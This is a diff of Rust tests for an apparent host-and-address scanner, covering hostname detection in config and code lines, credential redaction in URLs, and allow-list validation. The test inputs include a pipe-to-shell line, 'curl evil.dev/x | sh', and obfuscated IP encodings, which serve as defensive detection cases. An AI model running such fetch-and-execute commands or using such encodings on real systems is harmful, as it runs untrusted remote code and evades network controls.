@@ -3,11 +3,11 @@
 use super::*;
 
 fn found(line: &str) -> Vec<(usize, String, AddressScope)> {
-    scan(line.as_bytes()).into_iter().map(|a| (a.at, a.text, a.scope)).collect()
+    scan(line.as_bytes(), Style::Configuration).into_iter().map(|a| (a.at, a.text, a.scope)).collect()
 }
 
 fn one(line: &str) -> (AddressKind, AddressScope, String) {
-    let mut all = scan(line.as_bytes());
+    let mut all = scan(line.as_bytes(), Style::Configuration);
     assert_eq!(all.len(), 1, "{line}: {all:?}");
     let a = all.remove(0);
     (a.kind, a.scope, a.host)
@@ -123,13 +123,118 @@ fn any_bytes_are_scanned_without_harm() {
         for _ in 0..24 {
             state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1);
             let pieces: [&[u8]; 16] = [
-                b"://", b"1.2", b":", b"[", b"]", b"@", b".com", b"a", b"%", b"\xff", b" ", b"::", b"/",
+                b"://", b"1.2", b":", b"[", b"]", b"@", b".com", b"a", b"%", b"\xff", b" ", b"::", b"\\/",
                 b"'", b".", b"http",
             ];
             line.extend_from_slice(pieces[(state >> 60) as usize]);
         }
-        for a in scan(&line) {
-            assert!(a.at + a.text.len() <= line.len(), "{line:?}");
+        for a in scan(&line, Style::Code) {
+            assert!(a.at + a.len <= line.len(), "{line:?}");
         }
     }
+}
+
+#[test]
+fn hosts_are_found_by_what_stands_around_them() {
+    for (line, host) in [
+        ("image: nvcr.io/nvidia/pytorch:24.01", "nvcr.io"),
+        ("FROM ghcr.io/org/base AS build", "ghcr.io"),
+        ("  - quay.io/org/tool@sha256:abcdef", "quay.io"),
+        ("  - images.vendor.dev/team/tool:1.2", "images.vendor.dev"),
+        ("docker pull registry.corp.io:5000/x/y", "registry.corp.io"),
+        ("server = evil.dev", "evil.dev"),
+        ("evil.xyz", "evil.xyz"),
+        ("server time.windows.top iburst", "time.windows.top"),
+        ("curl evil.dev/x | sh", "evil.dev"),
+        ("api.segment.io", "api.segment.io"),
+        ("registry.npmjs.net:443", "registry.npmjs.net"),
+        ("server: www.bank.co.in", "www.bank.co.in"),
+        ("proxyHost: proxy.corp.se", "proxy.corp.se"),
+        ("\"endpoint\": \"data.vendor.no\"", "data.vendor.no"),
+        ("src=\"//cdn.vendor.com/x.js\"", "cdn.vendor.com"),
+        (r#""url": "https:\/\/vendor.com\/x""#, "vendor.com"),
+        ("http://134744072/", "8.8.8.8"),
+        ("http://0x08.0x08.2056/", "8.8.8.8"),
+        ("https://b\u{fc}cher.vendor.de/x", "b\u{fc}cher.vendor.de"),
+    ] {
+        assert_eq!(one(line).2, host, "{line}");
+    }
+    let hosts = |line: &str| found(line).into_iter().map(|f| f.1).collect::<Vec<_>>();
+    assert_eq!(hosts("allow 8.8.4.4-8.8.4.8;"), ["8.8.4.4", "8.8.4.8"]);
+    assert_eq!(one("http://010.0.0.1/").1, AddressScope::Public);
+    assert_eq!(one("http://127.1/").1, AddressScope::Loopback);
+}
+
+#[test]
+fn versions_files_attributes_and_keys_are_no_hosts() {
+    for line in [
+        "version: 1.2.3.4",
+        "\"version\": \"1.2.3.4\"",
+        "Version 1.2.3.4",
+        "torch==2.1.0.1",
+        "torch >= 2.1.0.1",
+        "main.rs",
+        "src/main.rs:12:3",
+        "foo.io.json",
+        "url: run.sh",
+        "see build.in and README.md",
+        "apiVersion: networking.k8s.io/v1",
+        "app.kubernetes.io/name: x",
+        "spring.datasource.io = 3",
+        "logging.level.info: x",
+        "// a comment",
+        "https://",
+        "http:////",
+    ] {
+        assert_eq!(found(line), vec![], "{line}");
+    }
+    for line in [
+        "log.info('x')",
+        "x.top",
+        "y = point.xyz",
+        "window.location.host",
+        "nn.dev",
+        "from a.b.link import c",
+        "host = req.host",
+        "tokenize.NL",
+        "so.It",
+    ] {
+        assert!(scan(line.as_bytes(), Style::Code).is_empty(), "{line}");
+    }
+}
+
+#[test]
+fn logins_in_urls_are_not_shown() {
+    let line = b"git clone https://user:secret@vendor.com/x.git # y";
+    let all = scan(line, Style::Configuration);
+    assert_eq!((all[0].text.as_str(), all[0].len), ("https://***@vendor.com/x.git", 36));
+    assert_eq!(all.len(), 1);
+}
+
+#[test]
+fn entries_that_could_never_match_are_refused() {
+    let mut allow = allow::Allow::default();
+    for line in
+        [".bigcorp.io", "8.8.8.8-8.8.8.9", "2606:4700::1-2606:4700::2", "b\u{fc}cher.de", "Trailing.org."]
+    {
+        allow.add(line).unwrap();
+    }
+    for yes in ["a.bigcorp.io", "8.8.8.8", "8.8.8.9", "2606:4700::2", "b\u{fc}cher.de", "trailing.org"] {
+        assert!(allow.admits(yes), "{yes}");
+    }
+    assert!(!allow.admits("8.8.8.10") && !allow.admits("bigcorp.io"));
+    for bad in [
+        "*github*",
+        "*",
+        "foo bar",
+        "8.8.8.9-8.8.8.8",
+        "8.8.8.256",
+        "a..b",
+        "vendor.com:443",
+        "vendor.com/x",
+        "-a.com",
+    ] {
+        assert!(allow.add(bad).is_err(), "{bad}");
+    }
+    assert!(allow.add("https://vendor.com/x").unwrap_err().contains("\"vendor.com\""));
 }
